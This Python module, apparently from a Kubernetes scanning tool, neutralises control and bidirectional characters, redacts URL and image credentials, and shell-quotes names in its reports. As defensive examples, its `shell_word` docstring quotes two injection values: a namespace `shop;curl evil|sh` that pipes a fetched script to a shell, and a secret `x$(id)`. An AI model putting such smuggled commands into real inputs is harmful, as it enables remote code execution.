"""Text from manifests, registries and API servers, made safe to print.

Names, images, keys, registry headers and Kubernetes event messages are written
by whoever controls the input. Printed raw, an escape sequence in them can clear
the screen, retitle the terminal or hide findings (CWE-150, improper neutralization
of escape, meta, or control sequences), a control character makes a JUnit file
invalid XML 1.0, and a lone surrogate (`"\\ud800"` in JSON) cannot be encoded at
all. Every text report passes what it shows through `neutralise`: such characters
become visible escapes (`\\x1b`, `\\u202e`), so the text still says what was there.

Neutralised: C0 controls but tab and newline, DEL, C1 controls, lone surrogates,
the non-characters U+FFFE/U+FFFF (not allowed in XML 1.0), and the Unicode
bidirectional overrides and isolates that reorder what a reader sees
(CVE-2021-42574, "Trojan Source").
"""

from __future__ import annotations

import functools
import itertools
import re
import shlex

_UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)
_UNSAFE_LINE = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)
# Rich's own styling is ESC-introduced; in a rendered terminal report only ESC may stay.
_UNSAFE_BUT_ESC = re.compile(
    "[\x00-\x08\x0b-\x1a\x1c-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)


def _escape(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


# The unsafe characters of ASCII text (C0 controls but tab and newline, DEL): deleted from a
# copy of the text's bytes, they leave it shorter exactly when `_UNSAFE` would find one.
_ASCII_UNSAFE = bytes([*range(0x09), *range(0x0B, 0x20), 0x7F])
# ... and tab and newline too (`one_line`)
_ASCII_UNSAFE_LINE = bytes([*range(0x20), 0x7F])


def _plain_ascii(text: str, unsafe: bytes) -> bool:
    """ASCII text without one of the `unsafe` bytes: a report's usual text (JSON is ASCII), found by
    a byte scan in C twice as fast as the patterns below."""
    if not text.isascii():
        return False
    data = text.encode("ascii")
    return len(data.translate(None, unsafe)) == len(data)


def neutralise(text: str) -> str:
    """`text` with every unsafe character as a visible escape; tab and newline stay."""
    if _plain_ascii(text, _ASCII_UNSAFE):
        return text
    return _UNSAFE.sub(_escape, text) if _UNSAFE.search(text) else text


def one_line(text: str) -> str:
    """As `neutralise`, and tab, newline and every other line break (CR, U+2028, U+2029) escaped
    too: for a name, path, image or header value, which must never start a line of its own."""
    if _plain_ascii(text, _ASCII_UNSAFE_LINE):  # every finding's message passes here
        return text
    return _UNSAFE_LINE.sub(_escape, text) if _UNSAFE_LINE.search(text) else text


def neutralise_rendered(text: str) -> str:
    """A rendered terminal report: everything but ESC, which only the renderer's own styles use
    (data reached the renderer through a `safe_console`, which escaped its ESCs)."""
    return _UNSAFE_BUT_ESC.sub(_escape, text) if _UNSAFE_BUT_ESC.search(text) else text


def is_safe(text: str) -> bool:
    return _UNSAFE.search(text) is None


# A digest after an `@` (distribution/reference: digest := algorithm ":" hex, hex at least 32
# characters), or a malformed digest of a known algorithm (`@sha256:123456`), which is no credential.
_DIGEST = (
    r"(?:[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9A-Fa-f]{32,}"
    r"|(?i:sha256|sha384|sha512|blake3):[0-9A-Fa-f]*)"
)
# `scheme://user:password@host`, also scheme-relative (`//user:pw@host`) or with a broken scheme
# (`https:/user:pw@host`): userinfo in any URL, up to the last `@` of the word that does not start a
# digest (a password may hold `/`, `@`, `:`, `?`, `#`). Never across white space or a quote.
_URL_USERINFO = re.compile(
    r"(?i)((?<![a-z0-9+.-])[a-z][a-z0-9+.-]*:/{1,2}|(?<![\w:/.+-])//)[^\s'\"<>]*@(?!" + _DIGEST + ")"
)
# What every match of _URL_USERINFO contains: a cheap search (it starts with a literal) that
# spares the full pattern, which tries every word of a report, when no URL carries userinfo.
_USERINFO_TAIL = re.compile(r"/[^\s'\"<>]*@(?!" + _DIGEST + ")")

# An image reference as written, split for `redact_image`: a leading scheme, however broken
# (`https://`, `https:/`, `//`), and the `@`, `?` and `#` that a reference cannot hold but before a digest.
_IMAGE_SCHEME = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?/{1,2}")
_IMAGE_SEPARATOR = re.compile(r"[?#]|@(?!" + _DIGEST + r"(?:[?#]|\Z))")
# What the reference itself looks like when a redaction must choose among several parts: a
# registry host, a path and perhaps a tag and a digest (lenient: for display only).
_IMAGE_LIKE = re.compile(
    r"[A-Za-z0-9][A-Za-z0-9._\[\]:-]*(?:/[A-Za-z0-9._-]+)+(?::[A-Za-z0-9_][A-Za-z0-9_.-]*)?(?:@"
    + _DIGEST
    + ")?"
)


def redact_userinfo(text: str) -> str:
    """Text with the userinfo of every `scheme://user:pass@host` URL replaced by `***`."""
    if "@" not in text or _USERINFO_TAIL.search(text) is None:
        return text
    return _URL_USERINFO.sub(r"\1***@", text)


def redact_image(image: str) -> str:
    """An image reference as it may be shown, with whatever can be a credential as `***`.

    A reference (distribution/reference: domain/path[:tag][@digest]) holds an `@` only before a
    digest and never a `?` or `#`. So the text before the last other `@` is userinfo
    (`https://user:pass@reg.example/app:1` becomes `https://***@reg.example/app:1`), and the text
    after a `?` or `#` a query or fragment (`reg.example/app:1?token=x` becomes
    `reg.example/app:1?***`). Such a reference is never valid either way: the kubelet refuses it.
    When a password holds `?` or `#` and a query holds `@`, several parts could be the reference:
    the one that looks like one is kept, and if none or several do, only the scheme is.
    """
    if "@" not in image and "?" not in image and "#" not in image:
        return image
    scheme = _IMAGE_SCHEME.match(image)
    start = scheme.end() if scheme else 0
    separators = [(m.start(), m.group()[0]) for m in _IMAGE_SEPARATOR.finditer(image, start)]
    if not separators:
        return image
    # The parts the reference can be: after the start or an `@`, before a `?`, `#` or the end.
    bounds = [(start - 1, ""), *separators, (len(image), "")]
    parts = [
        (begin, end)
        for (begin, before), (end, after) in itertools.pairwise(bounds)
        if before in ("", "@") and after != "@"
    ]
    if len(parts) > 1:
        parts = [(b, e) for b, e in parts if _IMAGE_LIKE.fullmatch(image, b + 1, e)]
        if len(parts) != 1:
            return image[:start] + "***"
    begin, end = parts[0]
    return "".join(
        (
            image[:start],
            "***@" if begin >= start else "",
            image[begin + 1 : end],
            image[end] + "***" if end < len(image) else "",
        )
    )


@functools.lru_cache(maxsize=1 << 14)  # the same names recur in every finding's commands
def shell_word(text: str) -> str:
    """`text` as one shell word, for a command a user pastes: names come from the input, and a
    namespace `shop;curl evil|sh` or a secret `x$(id)` must stay a (refused) name, never run
    (CWE-78). A valid Kubernetes name, registry or key is printed as it is."""
    if _UNSAFE_LINE.search(text) is None:
        return shlex.quote(text)
    # a line break or control character: bash's $'...' spells it as an escape, so the command stays
    # on one line as printed and means the same name when pasted
    return "$'" + "".join(_ansi_c(character) for character in text) + "'"


def _ansi_c(character: str) -> str:
    if character in "\\'":
        return "\\" + character
    if _UNSAFE_LINE.match(character) is None:
        return character
    code = ord(character)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
